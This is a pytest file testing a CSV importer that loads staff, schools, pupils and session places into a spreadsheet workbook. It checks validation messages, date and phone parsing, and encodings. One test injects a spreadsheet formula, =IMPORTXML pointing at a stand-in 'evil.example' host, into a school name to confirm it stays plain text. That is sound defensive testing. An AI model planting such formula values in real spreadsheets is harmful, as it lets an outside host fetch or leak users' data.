"""Files of pupils, places and contacts: each line is checked, nothing is half there, what people typed stays."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from cme.edges.schema import tab
from cme.edges.sheets import Snapshot
from cme.errors import SetupError
from scripts._setup.csv_in import read_csv
from scripts._setup.importing import KEYS, Import, files_in, plan_import
from scripts._setup.typed import given_in

EXAMPLES = Path(__file__).parents[2] / "docs" / "example-files"
BOOK = "book"
STAFF = "Code,Name,Email,Roles\nS01,Tess Spanner,tess@innov8.example,lead\nS02,Dee,dee@innov8.example,innov8 dsl\n"
SESSIONS = "Code,Name,Weekday,Start,End,Lead\nMON-BIKE,Bikes,Monday,09:00,12:00,S01\n"
SCHOOLS = "Code,Name,Attendance email,Allowed domains\nHILL,Hill,office@hill.example,hill.example\n"
PUPILS = "Code,First name,Surname,School on roll,Roll status\nP1,Sam,Specimen,HILL,on roll\n"
PLACES = "Pupil,Commissioner,MON-BIKE\nP1,HILL,x\n"
WHOLE = {"staff": STAFF, "sessions": SESSIONS, "schools": SCHOOLS, "pupils": PUPILS, "places": PLACES}


def workbook(**rows: list[list[Any]]) -> Snapshot:
    """A workbook whose tabs hold their headings, and these rows."""
    values: dict[str, list[list[Any]]] = {slug: [list(tab(slug).headers), *rows.get(slug, ())] for slug in KEYS}
    values["settings"] = [["Setting", "Value", "What it means"], ["workbook id", BOOK, ""], ["mode", "rehearsal", ""]]
    return Snapshot(revision=1, values=values, titles={slug: tab(slug).title for slug in values})


def planned(folder: Path, files: dict[str, str], stands: Snapshot | None = None) -> Import:
    for name, text in files.items():
        (folder / f"{name}.csv").write_text(text, encoding="utf-8")
    return plan_import(folder, stands or workbook(), BOOK)


def test_the_examples_that_the_page_shows_are_right_in_every_line() -> None:
    found = plan_import(EXAMPLES, workbook(), BOOK)
    assert (found.wrong, found.differs) == ([], [])
    assert {part.tab.slug for part in found.parts if part.rows} == set(KEYS)
    assert files_in(EXAMPLES) == [*(f"{slug}.csv" for slug in KEYS), "settings.csv"]
    assert given_in(EXAMPLES)["domain"] == "innov8.example"


def test_files_are_checked_together_so_that_one_may_name_what_another_brings(tmp_path: Path) -> None:
    found = planned(tmp_path, WHOLE)
    assert found.wrong == []
    assert [(part.file, len(part.rows)) for part in found.parts] == [
        ("staff.csv", 2),
        ("schools.csv", 1),
        ("sessions.csv", 1),
        ("pupils.csv", 1),
        ("places.csv", 1),
    ]


@pytest.mark.parametrize(
    ("file", "old", "new", "said"),
    [
        ("pupils", "P1,Sam", "P 1,Sam", "pupils.csv line 2, Code: “P 1” is not a code."),
        ("pupils", "on roll\n", "onroll\n", "pupils.csv line 2, Roll status: “onroll” is not one of on roll, dual"),
        ("pupils", "Surname,", "Sirname,", "pupils.csv line 1: the tab has no column “Sirname”. It has: Code, First"),
        ("pupils", "P1,Sam", ",Sam", "pupils.csv line 2, Code: it is empty, and must not be."),
        ("pupils", "on roll\n", "on roll\n\nP1,Zoë,Two,,\n", "pupils.csv line 4: “P1” stands in line 2 as well."),
        ("schools", "office@hill.example", "office(at)hill", "schools.csv line 2, Attendance email: “office(at)hill”"),
        ("schools", "office@hill.example", "office@other.example", "The address does not end in a domain that Hill"),
        ("sessions", "09:00", "9 o'clock", "sessions.csv line 2, Start: “9 o'clock” is not a time. Type it as 09:30."),
        ("sessions", ",S01", ",S09", "sessions.csv line 2, Lead: MON-BIKE has no lead: there is nobody “S09”"),
        ("places", "P1,", "P9,", "places.csv line 2, Pupil: There is no pupil “P9”. Use a code from the Pupils tab."),
        ("places", "MON-BIKE", "TUE-BIKE", "places.csv line 1: “TUE-BIKE” heads a column, but no session has that"),
        ("places", ",x", ",perhaps", "places.csv line 2, MON-BIKE: “perhaps” is neither a tick nor a time."),
    ],
)
def test_each_line_that_is_wrong_is_named_with_what_to_do(
    tmp_path: Path, file: str, old: str, new: str, said: str
) -> None:
    found = planned(tmp_path, {**WHOLE, file: WHOLE[file].replace(old, new, 1)})
    assert len([line for line in found.wrong if said in line]) == 1, found.wrong


def test_a_wrong_cell_is_said_once(tmp_path: Path) -> None:
    found = planned(tmp_path, {"pupils": PUPILS.replace("P1", "").replace("HILL", "")})
    assert found.wrong == ["pupils.csv line 2, Code: it is empty, and must not be."]


def test_what_is_wrong_on_the_tab_already_is_not_the_files_fault(tmp_path: Path) -> None:
    there = ["P 1", "Old", "Mistake"]
    assert planned(tmp_path, {"pupils": PUPILS.replace("HILL", "")}, workbook(pupils=[there])).wrong == []


@pytest.mark.parametrize(
    ("typed", "kept"),
    [("23/11/2011", 40870.0), ("2011-11-23", 40870.0), ("1/2/2012", 40940.0)],
)
def test_a_date_is_read_with_the_day_first(tmp_path: Path, typed: str, kept: float) -> None:
    pupils = f"Code,First name,Surname,Date of birth\nP1,Sam,Specimen,{typed}\n"
    (part,) = planned(tmp_path, {"pupils": pupils}).parts
    assert part.rows[0]["Date of birth"] == kept


@pytest.mark.parametrize(("typed", "said"), [("11/23/2011", "the day first"), ("23/11/11", "the day first")])
def test_a_date_that_could_mean_another_is_refused(tmp_path: Path, typed: str, said: str) -> None:
    found = planned(tmp_path, {"pupils": f"Code,First name,Surname,Date of birth\nP1,Sam,Specimen,{typed}\n"})
    assert said in found.wrong[0]


@pytest.mark.parametrize("typed", ["1632960001", "1.63E+09", "ask her mother"])
def test_a_number_whose_nought_excel_took_away_is_noticed(tmp_path: Path, typed: str) -> None:
    pupils = f"Code,First name,Surname,Contact 1,Contact 1 phone\nP1,Sam,Specimen,Pat,{typed}\n"
    found = planned(tmp_path, {"pupils": pupils})
    assert f"pupils.csv line 2, Contact 1 phone: “{typed}” is not a telephone number." in found.wrong[0]


def test_a_repeat_adds_nothing_and_says_what_differs_from_what_people_typed(tmp_path: Path) -> None:
    header = tab("pupils").headers
    there = ["" for _ in header]
    for name, value in {"Code": "P1", "First name": "Samuel", "Surname": "Specimen", "Date of birth": 40870}.items():
        there[header.index(name)] = value  # type: ignore[call-overload]
    pupils = "Code,First name,Surname,Date of birth,Year\nP1,Sam,Specimen,23/11/2011,9\n"
    found = planned(tmp_path, {"pupils": pupils}, workbook(pupils=[there]))
    assert found.requests() == []
    assert found.differs == [
        "pupils.csv line 2, First name: “Sam” in the file, “Samuel” on the tab, which stays",
        "pupils.csv line 2, Year: “9” in the file, “” on the tab, which stays",
    ]


def test_cells_follow_headings_that_people_moved_or_wrote_otherwise(tmp_path: Path) -> None:
    stands = workbook()
    header = [name.upper() for name in reversed(tab("staff").headers)]
    stands.values["staff"] = [header]
    (part,) = planned(tmp_path, {"staff": STAFF}, stands).parts
    (request,) = Import([part]).requests()
    cells = request["appendCells"]["rows"][0]["values"]
    assert cells[header.index("CODE")] == {"userEnteredValue": {"stringValue": "S01"}}
    assert cells[header.index("PHONE")] == {}


def test_what_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    schools = SCHOOLS.replace(",Hill,", ',"=IMPORTXML(""https://evil.example"")",')
    (part,) = planned(tmp_path, {"schools": schools}).parts
    (request,) = Import([part]).requests()
    name = request["appendCells"]["rows"][0]["values"][part.header.index("Name")]
    assert name == {"userEnteredValue": {"stringValue": '=IMPORTXML("https://evil.example")'}}


@pytest.mark.parametrize("code", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_letters_and_marks_are_those_of_whoever_saved_it(tmp_path: Path, code: str, mark: str) -> None:
    file = tmp_path / "staff.csv"
    file.write_bytes("Code,Name\r\nS01,Zoë O’Sample\r\n".replace(",", mark).encode(code))
    headings, (line,) = read_csv(file, ("Code", "Name"))
    assert headings == ["Code", "Name"]
    assert line.cells == {"Code": "S01", "Name": "Zoë O’Sample"}


def test_a_cell_of_several_lines_does_not_move_the_numbers_of_those_below(tmp_path: Path) -> None:
    file = tmp_path / "pupils.csv"
    file.write_text('Code,Note\nP1,"two\nlines"\n\nP2,one\n')
    assert [line.number for line in read_csv(file, ("Code", "Note"))[1]] == [2, 5]


def test_a_folder_without_any_known_file_is_a_mistake(tmp_path: Path) -> None:
    with pytest.raises(SetupError, match="holds no file that is known"):
        files_in(tmp_path)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Setting,Value\ndomane,innov8.example\n", "line 2: there is no setting “domane”"),
        ("Setting,Value\nmode,live\n", "line 2: there is no setting “mode”"),
        ("Setting,Value\ndsl phone,7700900106\n", "line 2: “7700900106” is not a telephone number"),
    ],
)
def test_a_setting_that_is_none_or_cannot_stand_is_named(tmp_path: Path, text: str, said: str) -> None:
    (tmp_path / "settings.csv").write_text(text)
    with pytest.raises(SetupError, match=said):
        given_in(tmp_path)
